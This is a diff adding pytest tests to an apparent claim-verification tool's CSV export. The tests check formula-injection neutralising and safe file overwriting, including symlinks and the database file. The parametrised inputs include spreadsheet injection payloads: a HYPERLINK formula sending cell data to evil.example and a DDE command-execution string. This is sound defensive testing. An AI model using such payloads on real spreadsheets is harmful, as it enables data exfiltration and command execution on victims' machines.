@@ -131,6 +131,21 @@ def test_csv_reads_back_with_the_csv_module(store: Store) -> None:
     assert result.head_seq == seq and result.head_hash == digest
 
 
+@pytest.mark.parametrize("note", ['=HYPERLINK("http://evil.example/?"&A1,"clic")', "+1+cmd|' /C calc'!A0",
+                                  "-2+3", "@SUM(1)", "\t=1", "\r=1"])
+def test_csv_never_hands_a_formula_to_a_spreadsheet(store: Store, note: str) -> None:
+    ids = populate(store)
+    record_verdict(store=store, claim_id=ids["factual"], verdict="False", note=note,
+                   actor="alice", seen_version=2)
+    with store.read() as s:
+        stored = s.get(Claim, ids["factual"]).note  # notes are stored stripped
+    data, _ = run(store, "csv")
+    raw = [r for r in data.decode("utf-8").splitlines() if r.startswith(f"{ids['factual']},")]
+    assert raw and f",'{stored[:1]}" in raw[0].replace('"', "")  # the cell starts with '
+    rows, _ = read_csv(data.decode("utf-8"))
+    assert {int(r["claim_id"]): r for r in rows}[ids["factual"]]["note"] == stored  # read back
+
+
 def test_xlsx_reads_back_with_openpyxl(store: Store, tmp_path: Path) -> None:
     ids = populate(store)
     seq, digest = head(store)
@@ -351,6 +366,37 @@ def test_cli_export(store: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatc
     assert res.exit_code == 2 and "unknown verdict" in res.output
     res = runner.invoke(app, ["export", "--format", "jsonld", "--kind", "quote"])
     assert res.exit_code == 0 and '"@type":"ClaimReview"' in res.output
+
+
+def test_cli_export_never_overwrites_without_force_nor_the_database(
+        store: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    populate(store)
+    monkeypatch.setenv("VERIFIER_DATABASE_URL", store.url)
+    runner, app = CliRunner(), cli_app()
+    out = tmp_path / "report.csv"
+    out.write_text("someone's work")
+    res = runner.invoke(app, ["export", "--format", "csv", "--out", str(out)])
+    assert res.exit_code == 2 and "exists; give --force" in res.output
+    assert out.read_text() == "someone's work"
+    res = runner.invoke(app, ["export", "--format", "csv", "--out", str(out), "--force"])
+    assert res.exit_code == 0 and out.read_text().startswith("claim_id,")
+    # A symbolic link is replaced, never written through.
+    victim = tmp_path / "victim.txt"
+    victim.write_text("keep me")
+    link = tmp_path / "link.csv"
+    link.symlink_to(victim)
+    res = runner.invoke(app, ["export", "--format", "csv", "--out", str(link), "--force"])
+    assert res.exit_code == 0 and victim.read_text() == "keep me" and not link.is_symlink()
+    assert not list(tmp_path.glob(".*part"))
+    if store.url.startswith("sqlite"):
+        db = Path(store.url.split("///", 1)[1])
+        before = db.read_bytes()
+        for target in (db, db.with_name(db.name + "-wal")):
+            res = runner.invoke(app, ["export", "--format", "csv", "--out", str(target), "--force"])
+            assert res.exit_code == 2 and "database itself" in res.output
+        assert db.read_bytes()[:100] == before[:100]
+        with store.read() as session:
+            assert audit.verify_chain(session).ok
 
 
 def test_pdf_without_browser_is_a_clear_error(store: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
